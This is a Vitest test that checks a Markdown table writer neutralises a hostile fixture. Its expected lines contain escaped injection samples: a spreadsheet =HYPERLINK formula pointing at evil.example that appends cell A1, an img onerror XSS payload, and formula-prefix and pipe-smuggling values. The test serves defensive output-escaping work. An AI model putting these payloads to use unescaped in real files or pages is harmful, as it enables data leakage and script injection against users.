import { describe, expect, it } from 'vitest';
import { hostileTable } from './fixtures/hostile-table.ts';
import { writeMarkdown } from './write-markdown.ts';

describe('writeMarkdown', () => {
  it('is a table with nothing active in it', () => {
    expect(writeMarkdown(hostileTable).split('\n')).toEqual([
      '| Name | Title | Tag | Probability | Second tag | Probability |',
      '| :-- | :-- | :-- | --: | :-- | --: |',
      '| papers/a.pdf | Seeing, "far" | vision | 90.0 % | =language | 10.0 % |',
      '| @SUM(1)\\|x | =HYPERLINK("http<!-- -->://evil.example/?" &amp; A1) &lt;img src=x onerror=alert(1)&gt;\\[a\\](b)\0 | =language | 12.3 % | vision | 0.0 % |',
      '| -2+3 |  +1 |  |  |  |  |',
      '',
      'Topics, MiniLM, WASM int8, 2026-11-20T10:00:00.000Z, Taglight 0.1.0',
      '',
    ]);
  });
});
